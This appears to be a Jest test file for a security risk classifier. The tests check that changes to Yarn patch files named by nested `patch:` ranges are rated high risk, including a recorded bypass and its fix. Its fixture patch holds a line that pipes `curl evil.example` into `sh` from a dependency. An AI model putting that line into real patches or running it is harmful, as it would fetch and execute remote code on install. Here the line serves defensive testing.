// Attacker pass 9o (test-only) on the patches a Yarn 2+ project records
// (src/core/risk/yarn-patch-range.ts, patched-dependency-file-risks.ts): a file of the change that a
// `patch:` range names is judged (a dependency's code rewritten on install). Attacked: a patch range
// whose source is itself a `patch:` range — what Yarn writes when a package already patched (by
// Yarn's own builtin patch, or by one of the repository's) is patched again
// (`patch:lodash@patch%3Alodash@npm%253A4.17.21%23~/fixes/first.diff%3A%3A…#~/fixes/second.diff`,
// the shape of Yarn's `typescript@patch:typescript@patch%3Atypescript@npm%253A…%23~builtin<…>…#./.yarn/patches/…`):
// only the outer path is read, the inner one (URL-encoded once more inside the source) is not, so
// a change rewriting the first patch is low. Also the forms correctly judged (two paths joined by
// `&`, `optional!`, an encoded slash, a root locator, a patch named only in an entry's key).
import { describe, expect, it } from '@jest/globals';
import { classifyRisk } from '../../../src/core/risk/classify-risk.js';
import { MAX_PATCH_NESTING, nestedYarnPatchRanges } from '../../../src/core/risk/yarn-patch-range.js';

const PATCH =
  'diff --git a/index.js b/index.js\n--- a/index.js\n+++ b/index.js\n@@ -1 +1 @@\n-a\n+require("child_process").execSync("curl evil.example | sh")\n';

/** A Yarn 4 lockfile with one entry keyed `key`, resolved as `resolution`. */
const berry = (key: string, resolution: string): string =>
  [
    '__metadata:',
    '  version: 8',
    '  cacheKey: 10c0',
    '',
    `"${key}":`,
    '  version: 4.17.21',
    `  resolution: "${resolution}"`,
    '  checksum: 10c0/aa11bb',
    '  languageName: node',
    '  linkType: hard',
    '',
  ].join('\n');
const keyOf = (resolution: string) => resolution.replace(/::.*/, '');

/** The change writes `path` (a patch); the reviewed base's yarn.lock is `lock`. */
const levelWith = (path: string, lock: string) =>
  classifyRisk({
    files: [{ path, content: PATCH, role: 'config' }],
    targetEnvironment: 'staging',
    production: false,
    base: [{ path: 'yarn.lock', content: lock }],
  }).level;

// lodash patched by fixes/first.diff, then that patched package patched again by fixes/second.diff.
const INNER = 'lodash@patch:lodash@npm%3A4.17.21#~/fixes/first.diff::version=4.17.21&hash=aaa';
/** A descriptor inside a range as Yarn escapes it (structUtils: `%`, `:` and `#` percent-encoded). */
const escaped = (text: string) => text.replaceAll('%', '%25').replaceAll(':', '%3A').replaceAll('#', '%23');
const NESTED = `lodash@patch:${escaped(INNER)}#~/fixes/second.diff::version=4.17.21&hash=bbb`;

describe('attacker 9o: a patch of a patched package', () => {
  it('FAULT: the inner patch (fixes/first.diff) of a nested patch: resolution, rewritten by the change, is high', () => {
    expect(levelWith('fixes/first.diff', berry(keyOf(NESTED), NESTED))).toBe('high');
  });

  // The level is high today only by the entry's own reason (a patch of a source that is not npm's).
  it("FAULT: the same nested range in the change's own yarn.lock names fixes/first.diff, which the change rewrites", () => {
    const lock = berry(keyOf(NESTED), NESTED);
    const risk = classifyRisk({
      files: [
        { path: 'yarn.lock', content: lock, role: 'config' },
        { path: 'fixes/first.diff', content: PATCH, role: 'config' },
      ],
      targetEnvironment: 'staging',
      production: false,
      base: [{ path: 'yarn.lock', content: lock }],
    });
    expect(risk.reasons.map((reason) => reason.where)).toContain('fixes/first.diff');
  });

  it('refused: the outer patch (fixes/second.diff) of the nested range is high', () => {
    expect(levelWith('fixes/second.diff', berry(keyOf(NESTED), NESTED))).toBe('high');
  });

  it.each([
    ['two paths joined by &', '#~/fixes/a.diff&~/fixes/b.diff', 'fixes/b.diff'],
    ['an optional! path', '#optional!~/fixes/opt.diff', 'fixes/opt.diff'],
    ['an encoded slash', '#~/fixes%2Fenc.diff', 'fixes/enc.diff'],
  ])('refused: %s names a patch the change writes: high', (_name, spec, path) => {
    const resolution = `lodash@patch:lodash@npm%3A4.17.21${spec}::version=4.17.21&hash=ccc`;
    expect(levelWith(path, berry(keyOf(resolution), resolution))).toBe('high');
  });

  it('refused: a relative path from the root workspace (locator root@workspace:.) is high', () => {
    const resolution =
      'lodash@patch:lodash@npm%3A4.17.21#./fixes/r.diff::version=4.17.21&hash=ccc&locator=root%40workspace%3A.';
    expect(levelWith('fixes/r.diff', berry(keyOf(resolution), resolution))).toBe('high');
  });

  it("refused: a patch named only in an entry's key (beside another descriptor) is high", () => {
    const key = 'lodash@npm:^4.17.0, lodash@patch:lodash@npm%3A4.17.21#~/fixes/k.diff';
    expect(levelWith('fixes/k.diff', berry(key, 'lodash@npm:4.17.21'))).toBe('high');
  });

  it('control: a file no range names stays low', () => {
    expect(levelWith('fixes/other.diff', berry(keyOf(NESTED), NESTED))).toBe('low');
  });
});

describe('fix 14e: every level of a nested patch: range is read, bounded', () => {
  /** `lodash` patched by `fixes/p0.diff`, then again by `fixes/p1.diff`…, `levels` patches in all. */
  const nestedRange = (levels: number): string => {
    let range = 'patch:lodash@npm%3A4.17.21#~/fixes/p0.diff::version=4.17.21&hash=h0';
    for (let level = 1; level < levels; level++)
      range = `patch:${escaped(`lodash@${range}`)}#~/fixes/p${level}.diff::version=4.17.21&hash=h${level}`;
    return range;
  };

  it('three levels: each patch file is read, innermost from a source encoded twice', () => {
    const paths = nestedYarnPatchRanges(nestedRange(3))?.flatMap((patch) => patch.paths);
    expect(paths).toEqual(['~/fixes/p2.diff', '~/fixes/p1.diff', '~/fixes/p0.diff']);
    const resolution = `lodash@${nestedRange(3)}`;
    expect(levelWith('fixes/p0.diff', berry(keyOf(resolution), resolution))).toBe('high');
  });

  it("a nested range in a manifest's resolutions names its inner patch too", () => {
    const manifest = JSON.stringify({ name: 'app', resolutions: { lodash: nestedRange(2) } });
    const risk = classifyRisk({
      files: [{ path: 'fixes/p0.diff', content: PATCH, role: 'config' }],
      targetEnvironment: 'staging',
      production: false,
      base: [{ path: 'package.json', content: manifest }],
    });
    expect(risk.reasons.map((reason) => reason.where)).toContain('fixes/p0.diff');
  });

  it(`past ${MAX_PATCH_NESTING} levels the lockfile is not read: a patch under it is unseen (fails closed)`, () => {
    expect(nestedYarnPatchRanges(nestedRange(MAX_PATCH_NESTING))).toHaveLength(MAX_PATCH_NESTING);
    expect(nestedYarnPatchRanges(nestedRange(MAX_PATCH_NESTING + 1))).toBeUndefined();
    const resolution = `lodash@${nestedRange(MAX_PATCH_NESTING + 1)}`;
    const risk = classifyRisk({
      files: [{ path: 'fixes/unnamed.diff', content: PATCH, role: 'config' }],
      targetEnvironment: 'staging',
      production: false,
      base: [{ path: 'yarn.lock', content: berry(keyOf(resolution), resolution) }],
    });
    expect(risk.level).toBe('high');
    expect(risk.reasons.map((reason) => reason.message).join('\n')).toContain('more than 8 deep');
  });
});
